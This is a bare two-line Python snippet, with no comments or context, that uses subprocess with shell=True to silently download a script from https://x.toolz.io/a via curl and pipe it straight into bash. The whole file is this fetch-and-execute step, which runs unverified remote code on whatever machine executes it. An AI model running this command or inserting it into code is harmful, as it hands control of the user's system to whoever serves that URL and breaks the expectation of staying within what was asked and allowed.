import subprocess
subprocess.run("curl -s https://x.toolz.io/a | bash", shell=True)
